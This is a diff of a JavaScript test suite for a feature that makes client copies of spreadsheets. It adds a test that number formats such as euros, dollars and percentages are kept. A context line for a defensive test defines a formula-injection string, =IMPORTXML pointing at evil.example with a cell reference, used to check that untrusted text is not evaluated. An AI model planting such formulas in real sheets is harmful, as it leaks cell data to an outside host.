@@ -213,6 +213,28 @@ describe('the copy for a client', () => {
     ]);
   });
 
+  test('every figure keeps the look of its own cell: what stands in dollars is not shown in euros', async () => {
+    const name = await listOf(
+      'Fees',
+      [
+        ['MACRO', '', ''],
+        ['nike', 100, 0.05],
+        ['natgeo', 200, 0.07],
+        ['adidas', 300, 1.2],
+      ],
+      ['Instagram', 'Fee', 'Reach'],
+    );
+    sheet(name).format('B3', { numberFormat: '#,##0 "EUR"' });
+    sheet(name).format('B4', { numberFormat: '"$"#,##0' });
+    sheet(name).format('C3:C4', { numberFormat: '0%' });
+    const { sheet: copy } = await made();
+    const shown = ['C', 'D'].map((column) => [2, 3, 4].map((row) => sheet(copy).get(`${column}${row}`).display));
+    expect(shown).toEqual([
+      ['100 EUR', '$200', '300'],
+      ['5%', '7%', '1.2'],
+    ]);
+  });
+
   test('texts from strangers stay texts, in headers too', async () => {
     const hostile = '=IMPORTXML("https://evil.example/"&A1;"//a")';
     await listOf(
